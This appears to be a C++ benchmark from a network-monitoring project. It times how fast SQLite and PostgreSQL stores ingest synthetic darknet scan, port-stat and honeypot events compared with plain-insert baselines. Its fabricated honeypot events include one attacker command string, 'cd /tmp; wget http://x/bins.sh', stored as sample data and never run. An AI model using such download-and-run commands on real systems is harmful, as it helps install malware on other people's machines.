// Appending events through the Store (issue 14 "Speed": the store must not be what keeps the pipeline from
// 100,000 events/s into PostgreSQL and 200,000/s into SQLite).
//
// store_ingest_bench [--events N] [--batch B] [--rounds R] [--pg URL] [--engines sqlite,postgres]
//
// N events (default 200,000: darknet scans, port stats, honeypot logins and commands, as a busy site emits
// them) are built once. Then R rounds (default 5), each on fresh databases, of, per engine:
//   sqlite   store:    SqliteStore::append of every event, commit every B (default 1000, storage.batch_size)
//            baseline: the same rows (type, ts, sensor, subject, body; body already serialised) inserted by one
//                      prepared INSERT into a table with migration 0001's `events` schema, commit every B
//   postgres store:    PostgresStore::append of every event (buffered, sent with COPY at commit), commit every B
//            baseline: the same rows sent by libpq COPY (text format) into a table with 0001's schema, one
//                      COPY per B rows, each in its own transaction
// The store does everything the center does per event (JSON line, typed columns, every index of migrations
// 0001-0006, the rollups); the baseline the least a program can do to put the same rows in. Prints each
// round and the medians, events/s and store / baseline.
// Without --pg, starts a PostgreSQL server of its own (tests/support/postgres_server.py) and stops it after.

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <sqlite3.h>
#include <unistd.h>

#include "store/event_row.h"
#include "store/postgres_connection.h"
#include "store/postgres_store.h"
#include "store/sqlite_store.h"

using namespace kansoku;

namespace {

using Clock = std::chrono::steady_clock;

struct Args {
    int64_t events = 200'000;
    int64_t batch = 1000;
    int rounds = 5;
    std::string pg;
    std::string engines = "sqlite,postgres";
};

[[noreturn]] void die(const std::string& message) {
    std::fprintf(stderr, "store_ingest_bench: %s\n", message.c_str());
    std::exit(1);
}

template <typename T>
T orDie(Result<T> result) {
    if (!result) {
        die(result.error().message);
    }
    return std::move(*result);
}

void orDie(const Result<void>& result) {
    if (!result) {
        die(result.error().message);
    }
}

double median(std::vector<double> v) {
    std::sort(v.begin(), v.end());
    return v.empty() ? 0 : v[v.size() / 2];
}

/// A busy site's mix: 60% scans, 20% port stats, 15% logins, 5% commands, a second apart per 100 events.
std::vector<Event> makeEvents(int64_t n) {
    const char* tools[] = {"mirai", "zmap", "masscan", "unknown"};
    std::vector<Event> events;
    events.reserve(static_cast<size_t>(n));
    const Timestamp t0 = 1'714'564'800'000'000;
    for (int64_t i = 0; i < n; ++i) {
        const Timestamp ts = t0 + i * 10'000;
        const std::string src = fmt::format("198.51.{}.{}", (i / 250) % 256, i % 250 + 1);
        const int kind = static_cast<int>(i % 20);
        if (kind < 12) {
            events.push_back({"darknet.scan",
                              ts,
                              "tokyo-1",
                              {{"src", src},
                               {"proto", "tcp"},
                               {"dst_ports", {{{"port", 23 + i % 5}, {"count", 40}}, {{"port", 2323}, {"count", 3}}}},
                               {"dst_count", 43},
                               {"packets", 43},
                               {"first_seen", "2024-05-01T12:00:00.000000Z"},
                               {"last_seen", "2024-05-01T12:01:00.000000Z"},
                               {"tool", tools[i % 4]},
                               {"scan_kind", "horizontal"},
                               {"spoofed", false}}});
        } else if (kind < 16) {
            events.push_back({"darknet.port_stats",
                              ts,
                              "tokyo-1",
                              {{"proto", "tcp"},
                               {"port", 23 + i % 50},
                               {"minute", "2024-05-01T12:00:00Z"},
                               {"packets", 120},
                               {"sources", 7}}});
        } else if (kind < 19) {
            events.push_back({"honeypot.login",
                              ts,
                              "osaka-1",
                              {{"session", fmt::format("s{}", i / 20)},
                               {"src", src},
                               {"src_port", 40000},
                               {"dst_port", 23},
                               {"protocol", "telnet"},
                               {"username", "root"},
                               {"password", tools[i % 4]},
                               {"success", i % 3 == 0}}});
        } else {
            events.push_back({"honeypot.command",
                              ts,
                              "osaka-1",
                              {{"session", fmt::format("s{}", i / 20)},
                               {"src", src},
                               {"src_port", 40000},
                               {"dst_port", 23},
                               {"protocol", "telnet"},
                               {"input", "cd /tmp; wget http://x/bins.sh"}}});
        }
    }
    return events;
}

double throughStore(store::Store& db, const std::vector<Event>& events, int64_t batch) {
    const auto start = Clock::now();
    for (size_t i = 0; i < events.size(); i += static_cast<size_t>(batch)) {
        orDie(db.begin());
        const size_t end = std::min(events.size(), i + static_cast<size_t>(batch));
        for (size_t j = i; j < end; ++j) {
            orDie(db.append(events[j]));
        }
        orDie(db.commit());
    }
    return static_cast<double>(events.size()) / std::chrono::duration<double>(Clock::now() - start).count();
}

constexpr const char* kPlainSchema = "CREATE TABLE events (id INTEGER PRIMARY KEY, type TEXT NOT NULL, ts BIGINT NOT "
                                     "NULL, sensor TEXT NOT NULL, subject TEXT, body TEXT NOT NULL); CREATE INDEX "
                                     "events_type_ts ON events (type, ts); CREATE INDEX events_subject ON events "
                                     "(subject);";

double sqliteBaseline(const std::string& path, const std::vector<store::EventRow>& rows, int64_t batch) {
    sqlite3* db = nullptr;
    if (sqlite3_open(path.c_str(), &db) != SQLITE_OK ||
        sqlite3_exec(db, "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL;", nullptr, nullptr, nullptr) !=
            SQLITE_OK ||
        sqlite3_exec(db, kPlainSchema, nullptr, nullptr, nullptr) != SQLITE_OK) {
        die(fmt::format("sqlite baseline: {}", sqlite3_errmsg(db)));
    }
    sqlite3_stmt* insert = nullptr;
    sqlite3_prepare_v2(db, "INSERT INTO events (type, ts, sensor, subject, body) VALUES (?, ?, ?, ?, ?)", -1, &insert,
                       nullptr);
    const auto start = Clock::now();
    for (size_t i = 0; i < rows.size(); ++i) {
        if (i % static_cast<size_t>(batch) == 0) {
            sqlite3_exec(db, i == 0 ? "BEGIN" : "COMMIT; BEGIN", nullptr, nullptr, nullptr);
        }
        const auto& r = rows[i];
        sqlite3_bind_text(insert, 1, r.type.data(), static_cast<int>(r.type.size()), SQLITE_STATIC);
        sqlite3_bind_int64(insert, 2, r.ts);
        sqlite3_bind_text(insert, 3, r.sensor.data(), static_cast<int>(r.sensor.size()), SQLITE_STATIC);
        if (r.subject) {
            sqlite3_bind_text(insert, 4, r.subject->data(), static_cast<int>(r.subject->size()), SQLITE_STATIC);
        } else {
            sqlite3_bind_null(insert, 4);
        }
        sqlite3_bind_text(insert, 5, r.body.data(), static_cast<int>(r.body.size()), SQLITE_STATIC);
        if (sqlite3_step(insert) != SQLITE_DONE) {
            die(fmt::format("sqlite baseline: {}", sqlite3_errmsg(db)));
        }
        sqlite3_reset(insert);
    }
    sqlite3_exec(db, "COMMIT", nullptr, nullptr, nullptr);
    const double rate = static_cast<double>(rows.size()) / std::chrono::duration<double>(Clock::now() - start).count();
    sqlite3_finalize(insert);
    sqlite3_close(db);
    return rate;
}

double postgresBaseline(const std::string& url, const std::vector<store::EventRow>& rows, int64_t batch) {
    auto db = orDie(store::PgConnection::connect(url));
    orDie(db->exec("CREATE TABLE events (id BIGINT GENERATED ALWAYS AS IDENTITY PRIMARY KEY, type TEXT NOT NULL, "
                   "ts BIGINT NOT NULL, sensor TEXT NOT NULL, subject TEXT, body TEXT NOT NULL); CREATE INDEX "
                   "events_type_ts ON events (type, ts); CREATE INDEX events_subject ON events (subject)",
                   "baseline schema"));
    std::string data;
    const auto start = Clock::now();
    for (size_t i = 0; i < rows.size(); i += static_cast<size_t>(batch)) {
        data.clear();
        const size_t end = std::min(rows.size(), i + static_cast<size_t>(batch));
        for (size_t j = i; j < end; ++j) {
            const auto& r = rows[j];
            store::appendCopyText(data, r.type);
            data += '\t';
            data += std::to_string(r.ts);
            data += '\t';
            store::appendCopyText(data, r.sensor);
            data += '\t';
            if (r.subject) {
                store::appendCopyText(data, *r.subject);
            } else {
                data += "\\N";
            }
            data += '\t';
            store::appendCopyText(data, r.body);
            data += '\n';
        }
        orDie(db->exec("BEGIN", "baseline"));
        orDie(db->copyIn("events (type, ts, sensor, subject, body)", data, "baseline"));
        orDie(db->exec("COMMIT", "baseline"));
    }
    return static_cast<double>(rows.size()) / std::chrono::duration<double>(Clock::now() - start).count();
}

/// A new empty database on the server of `admin_url`; its URL.
std::string freshPostgresDatabase(const std::string& admin_url, const std::string& name) {
    auto admin = orDie(store::PgConnection::connect(admin_url));
    orDie(admin->exec("DROP DATABASE IF EXISTS " + name, "drop"));
    orDie(admin->exec("CREATE DATABASE " + name, "create"));
    std::string url = admin_url;
    const auto slash = url.find('/', url.find("://") + 3);
    const auto end = url.find('?', slash);
    url.replace(slash + 1, (end == std::string::npos ? url.size() : end) - slash - 1, name);
    return url;
}

void report(const char* engine, const std::vector<double>& store_rates, const std::vector<double>& base_rates) {
    std::printf("%-8s median  store %9.0f events/s  baseline %9.0f events/s  store/baseline %.2f\n", engine,
                median(store_rates), median(base_rates), median(store_rates) / median(base_rates));
}

} // namespace

int main(int argc, char** argv) {
    Args args;
    for (int i = 1; i < argc; ++i) {
        const std::string a = argv[i];
        const auto value = [&]() -> std::string {
            if (i + 1 >= argc) {
                die(a + " needs a value");
            }
            return argv[++i];
        };
        if (a == "--events") {
            args.events = std::stoll(value());
        } else if (a == "--batch") {
            args.batch = std::stoll(value());
        } else if (a == "--rounds") {
            args.rounds = std::stoi(value());
        } else if (a == "--pg") {
            args.pg = value();
        } else if (a == "--engines") {
            args.engines = value();
        } else {
            die("usage: store_ingest_bench [--events N] [--batch B] [--rounds R] [--pg URL] [--engines "
                "sqlite,postgres]");
        }
    }
    const auto events = makeEvents(args.events);
    std::vector<store::EventRow> rows;
    rows.reserve(events.size());
    for (const auto& e : events) {
        rows.push_back(store::toEventRow(e));
    }
    const std::filesystem::path dir = std::filesystem::temp_directory_path() / fmt::format("ks-ingest-{}", getpid());
    std::filesystem::create_directories(dir);
    const bool sqlite = args.engines.find("sqlite") != std::string::npos;
    const bool postgres = args.engines.find("postgres") != std::string::npos;
    const std::string script = KANSOKU_POSTGRES_SERVER_SCRIPT;
    const std::string pg_dir = (dir / "pg").string();
    if (postgres && args.pg.empty()) {
        if (std::system(fmt::format("/usr/bin/python3 {} start {} >/dev/null", script, pg_dir).c_str()) != 0) {
            die("could not start a PostgreSQL server (give one with --pg URL)");
        }
        args.pg = fmt::format("postgresql:///kansoku?host={}&user=kansoku", pg_dir);
    }
    std::printf("%lld events, commit every %lld, %d rounds\n", static_cast<long long>(args.events),
                static_cast<long long>(args.batch), args.rounds);
    std::vector<double> sqlite_store, sqlite_base, pg_store, pg_base;
    for (int round = 0; round < args.rounds; ++round) {
        if (sqlite) {
            const std::string a = (dir / fmt::format("store-{}.db", round)).string();
            const std::string b = (dir / fmt::format("plain-{}.db", round)).string();
            sqlite_base.push_back(sqliteBaseline(b, rows, args.batch));
            {
                auto db = orDie(store::SqliteStore::open(a, store::OpenMode::ReadWriteCreate));
                sqlite_store.push_back(throughStore(*db, events, args.batch));
            }
            std::printf("round %d  sqlite    store %9.0f/s  baseline %9.0f/s\n", round + 1, sqlite_store.back(),
                        sqlite_base.back());
            std::filesystem::remove(a);
            std::filesystem::remove(b);
        }
        if (postgres) {
            pg_base.push_back(postgresBaseline(freshPostgresDatabase(args.pg, "ingest_plain"), rows, args.batch));
            {
                auto db = orDie(store::PostgresStore::open(freshPostgresDatabase(args.pg, "ingest_store"),
                                                           store::OpenMode::ReadWriteCreate));
                pg_store.push_back(throughStore(*db, events, args.batch));
            }
            std::printf("round %d  postgres  store %9.0f/s  baseline %9.0f/s\n", round + 1, pg_store.back(),
                        pg_base.back());
        }
        std::fflush(stdout);
    }
    if (sqlite) {
        report("sqlite", sqlite_store, sqlite_base);
    }
    if (postgres) {
        report("postgres", pg_store, pg_base);
    }
    if (std::filesystem::exists(pg_dir)) {
        (void)std::system(fmt::format("/usr/bin/python3 {} stop {}", script, pg_dir).c_str());
    }
    std::filesystem::remove_all(dir);
    return 0;
}
